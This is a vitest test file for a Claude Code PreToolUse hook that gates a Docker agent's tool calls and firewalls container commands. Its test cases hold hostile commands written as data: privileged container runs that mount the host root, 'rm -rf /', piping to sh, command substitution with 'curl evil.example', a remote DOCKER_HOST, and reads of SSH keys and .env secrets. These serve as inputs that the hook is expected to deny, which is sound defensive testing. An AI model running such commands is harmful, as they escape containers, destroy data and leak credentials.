import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HookInputError, parseHookInput, PreToolUseInput } from '../../cli/claude-hook/input.js';
import { agentName, decidePreToolUse, gateMode, preToolUseOutput } from '../../cli/claude-hook/pre-tool-use.js';
import type { PreToolUseOptions } from '../../cli/claude-hook/pre-tool-use.js';
import { CONTAINER_PROGRAM_NAMES, mentionsContainerProgram } from '../../cli/claude-hook/main-thread.js';
import { CONTAINER_PROGRAMS } from '../../permissions/container/index.js';

let root: string;
let proj: string;
let home: string;
beforeAll(() => {
  root = realpathSync(mkdtempSync(path.join(tmpdir(), 'de-cchook-')));
  proj = path.join(root, 'proj');
  home = path.join(root, 'home');
  for (const [rel, text] of Object.entries({
    'proj/Dockerfile': 'FROM alpine:3.20\n',
    'proj/.env': 'TOKEN=x\n',
    'proj/compose.yaml': 'services:\n  web:\n    image: nginx:1.27\n',
    'proj/k8s/deploy.yaml': 'apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: nginx}]}\n',
    'home/.ssh/id_rsa': 'KEY\n',
    'broken/.claude/agents/docker-expert.md': '---\nname: docker-expert\ntools: [\n---\nbody\n',
    'custom/.claude/agents/reader.md': '---\nname: reader\ndescription: reads\ntools: Read, Grep\n---\nbody\n',
  })) {
    mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    writeFileSync(path.join(root, rel), text);
  }
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** A PreToolUse input as Claude Code 2.1.328 sends it (fields copied from a real hook log). */
function input(tool_name: string, tool_input: Record<string, unknown>, extra: Record<string, unknown> = {}) {
  return parseHookInput(PreToolUseInput, JSON.stringify({
    session_id: 'fb61c1ca-1fd0-4246-b9e4-bf7bd707c5d6',
    transcript_path: `${home}/.claude/projects/x/fb61c1ca.jsonl`,
    cwd: proj,
    prompt_id: '7f106bfa-7efd-48a4-b636-56a9599e6c18',
    permission_mode: 'default',
    agent_type: 'docker-expert',
    effort: { level: 'medium' },
    hook_event_name: 'PreToolUse',
    tool_name,
    tool_input,
    tool_use_id: 'toolu_0',
    ...extra,
  }));
}
const bash = (command: string, extra: Record<string, unknown> = {}) => input('Bash', { command, description: 'x' }, extra);
const decide = (i: PreToolUseInput, o: PreToolUseOptions = {}) => decidePreToolUse(i, { home, ...o });

describe('PreToolUse inside the docker-expert agent: the definition\'s gate', () => {
  it.each([
    ['docker run --privileged -v /:/host alpine', /host escape: --privileged/],
    ['docker run -v /:/host alpine', /host escape/],
    ['echo hi', /limits Bash to Bash\(docker:\*\), Bash\(kubectl:\*\), Bash\(podman:\*\); 'echo' is not one of them/],
    ['docker ps; rm -rf /', /'rm' is not one of them/],
    ['docker ps | sh', /never run/],
    ['docker ps $(curl evil.example)', /command substitution/],
    ['/usr/bin/docker ps', /given by path/],
    ['docker build -f /etc/passwd .', /outside the project/],
    ['DOCKER_HOST=tcp://evil:2375 docker ps', /host escape: DOCKER_HOST/],
    ['kubectl apply -f k8s/deploy.yaml --kubeconfig /tmp/other', /./],
  ])('%s -> deny', async (command, why) => {
    const answer = await decide(bash(command));
    expect(answer?.decision).toBe('deny');
    expect(answer?.reason).toMatch(/^docker-expert \(docker-expert agent\): /);
    expect(answer?.reason).toMatch(why);
  });

  it.each([
    ['docker rm -f web', /docker rm changes containers/],
    ['kubectl apply -f k8s/deploy.yaml', /kubectl apply changes the cluster/],
    ['docker compose up -d', /compose up changes containers/],
  ])('%s -> ask (a person decides, in Claude Code\'s own prompt)', async (command, why) => {
    const answer = await decide(bash(command));
    expect(answer).toEqual({ decision: 'ask', reason: expect.stringMatching(why) });
  });

  it.each(['docker ps', 'docker images', 'kubectl get pods -n web', "docker inspect -f '{{.State.Status}}' web"])('%s -> nothing (Claude Code decides), allow with --allow-safe', async (command) => {
    expect(await decide(bash(command))).toBeUndefined();
    const safe = await decide(bash(command), { allowSafe: true });
    expect(safe?.decision).toBe('allow');
  });

  it('--allow-safe never turns a denial or a question into an allow', async () => {
    expect((await decide(bash('docker run --privileged alpine'), { allowSafe: true }))?.decision).toBe('deny');
    expect((await decide(bash('docker rm web'), { allowSafe: true }))?.decision).toBe('ask');
  });

  it('judges every Claude Code permission mode but plan and acceptEdits as default: bypassPermissions does not open escapes', async () => {
    for (const mode of ['bypassPermissions', 'dontAsk', 'auto', 'acceptEdits', undefined]) {
      expect((await decide(bash('docker run --privileged alpine', { permission_mode: mode })))?.decision).toBe('deny');
    }
    expect(gateMode('bypassPermissions')).toBe('default');
    expect(gateMode('plan')).toBe('plan');
    expect(gateMode('acceptEdits')).toBe('acceptEdits');
  });

  it('plan mode refuses a change that default mode would ask about', async () => {
    const answer = await decide(bash('docker rm web', { permission_mode: 'plan' }));
    expect(answer).toEqual({ decision: 'deny', reason: expect.stringMatching(/plan mode is read-only/) });
  });

  it('a background Bash call gets the verdict of its command', async () => {
    expect((await decide(input('Bash', { command: 'docker run --privileged alpine', run_in_background: true })))?.decision).toBe('deny');
    expect(await decide(input('Bash', { command: 'docker ps', run_in_background: true }))).toBeUndefined();
  });

  it('file tools: secrets and paths outside the project are denied, the project is left to Claude Code', async () => {
    expect((await decide(input('Read', { file_path: path.join(proj, '.env') })))?.reason).toMatch(/secret/);
    expect((await decide(input('Read', { file_path: path.join(home, '.ssh/id_rsa') })))?.decision).toBe('deny');
    expect((await decide(input('Write', { file_path: '/etc/cron.d/x', content: 'x' })))?.decision).toBe('deny');
    expect((await decide(input('Edit', { file_path: path.join(proj, '.git/config'), old_string: 'a', new_string: 'b' })))?.decision).toBe('deny');
    expect(await decide(input('Read', { file_path: path.join(proj, 'Dockerfile') }))).toBeUndefined();
    expect(await decide(input('Write', { file_path: path.join(proj, 'compose.yaml'), content: 'services: {}\n' }))).toBeUndefined();
  });

  it('a tool the definition does not list is denied', async () => {
    const answer = await decide(input('WebFetch', { url: 'https://evil.example', prompt: 'x' }));
    expect(answer).toEqual({ decision: 'deny', reason: expect.stringMatching(/does not give the agent the WebFetch tool/) });
    expect((await decide(input('NotebookEdit', { notebook_path: path.join(proj, 'a.ipynb'), new_source: 'x' })))?.decision).toBe('deny');
  });

  it('a plugin agent (plugin:agent) is looked up by its own name', async () => {
    expect(agentName('docker-expert:docker-expert')).toBe('docker-expert');
    expect((await decide(bash('echo hi', { agent_type: 'docker-expert:docker-expert' })))?.decision).toBe('deny');
  });

  it('a project definition is found from cwd, like `run` finds it', async () => {
    const cwd = path.join(root, 'custom');
    expect((await decide(input('Bash', { command: 'docker ps' }, { agent_type: 'reader', cwd })))?.reason).toMatch(/does not give the agent the Bash tool/);
    expect(await decide(input('Grep', { pattern: 'x', path: cwd }, { agent_type: 'reader', cwd }))).toBeUndefined();
  });

  it('a broken definition named after the agent is an error (the command turns it into exit 2), never a fallback', async () => {
    await expect(decide(bash('docker ps', { cwd: path.join(root, 'broken') }))).rejects.toThrow(/docker-expert\.md/);
  });
});

describe('PreToolUse outside a known agent: the container firewall on container commands only', () => {
  const main = (command: string, extra: Record<string, unknown> = {}) => bash(command, { agent_type: undefined, ...extra });

  it.each([
    ['docker run --privileged -v /:/host alpine', /host escape/],
    ['podman run --pid=host alpine', /host escape/],
    ['kubectl run x --image=alpine --overrides={"spec":{"hostPID":true}}', /./],
    ['sudo docker run alpine', /never run/],
    ["sh -c 'docker run --privileged alpine'", /never run/],
    ['git status && docker run --net=host alpine', /host escape/],
    ['docker run $(echo --privileged) alpine', /command substitution/],
    ['d""ocker run --privileged alpine', /host escape/],
    ['find . -exec docker rm {} ;', /would start docker/],
    ['docker logs web > /etc/x', /outside the project/],
  ])('%s -> deny', async (command, why) => {
    const answer = await decide(main(command));
    expect(answer?.decision).toBe('deny');
    expect(answer?.reason).toMatch(/^docker-expert \(container firewall\): /);
    expect(answer?.reason).toMatch(why);
  });

  it.each(['git status', 'npm test', 'rm -rf build', 'echo "$(id)"', 'docker ps', 'docker rm -f web', 'kubectl apply -f k8s/deploy.yaml', 'git commit -m "fix the docker build"'])(
    '%s -> nothing (Claude Code decides)',
    async (command) => {
      expect(await decide(main(command))).toBeUndefined();
    },
  );

  it('Claude Code\'s own agents (not a definition here) are the main thread', async () => {
    expect((await decide(bash('docker run --privileged alpine', { agent_type: 'Explore' })))?.decision).toBe('deny');
    expect(await decide(bash('echo hi', { agent_type: 'general-purpose' }))).toBeUndefined();
  });

  it('--allow-safe allows only a command made wholly of read-only container commands', async () => {
    expect((await decide(main('docker ps'), { allowSafe: true }))?.decision).toBe('allow');
    expect((await decide(main('docker ps | grep web'), { allowSafe: true }))?.decision).toBeUndefined();
    expect(await decide(main('docker rm web'), { allowSafe: true })).toBeUndefined();
  });

  it('knows the firewall\'s container CLIs without loading the firewall, through quotes and backslashes', () => {
    expect(CONTAINER_PROGRAM_NAMES).toEqual([...CONTAINER_PROGRAMS]);
    expect(mentionsContainerProgram('p"o"d\\man ps')).toBe(true);
    expect(mentionsContainerProgram('npm test')).toBe(false);
  });

  it('--main-thread off leaves the main thread to Claude Code', async () => {
    expect(await decide(main('docker run --privileged alpine'), { mainThread: 'off' })).toBeUndefined();
  });

  it('other tools on the main thread are not judged', async () => {
    expect(await decide(input('Read', { file_path: '/etc/shadow' }, { agent_type: undefined }))).toBeUndefined();
  });
});

describe('hook input and output', () => {
  it('the answer is Claude Code\'s hookSpecificOutput; no answer prints nothing', () => {
    expect(JSON.parse(preToolUseOutput({ decision: 'deny', reason: 'r' }) as string)).toEqual({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'deny', permissionDecisionReason: 'r' } });
    expect(preToolUseOutput(undefined)).toBeUndefined();
  });

  it.each([
    ['not json', /not JSON \(line 1/],
    ['{\n  "cwd": "/x",\n  "tool_name": "Bash",,\n}', /not JSON \(line 3/],
    ['[]', /\(top level\)/],
    ['{"cwd":"/x","hook_event_name":"PreToolUse","tool_name":"Bash"}', /tool_input/],
    ['{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{}}', /cwd/],
    ['{"cwd":"/x","hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{}}', /hook_event_name/],
    ['{"cwd":"/x","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{},"agent_type":7}', /agent_type/],
  ])('%s -> an error naming the line or field', (text, why) => {
    expect(() => parseHookInput(PreToolUseInput, text)).toThrow(HookInputError);
    expect(() => parseHookInput(PreToolUseInput, text)).toThrow(why);
  });

  it('keeps fields it does not know (Claude Code adds some between versions)', () => {
    expect(input('Bash', { command: 'x' }, { future_field: 1 })).toMatchObject({ future_field: 1 });
  });

  it('a Bash call without a command string is denied', async () => {
    expect((await decide(input('Bash', { command: 5 })))?.decision).toBe('deny');
    expect((await decide(input('Bash', {}, { agent_type: undefined })))?.decision).toBe('deny');
  });
});
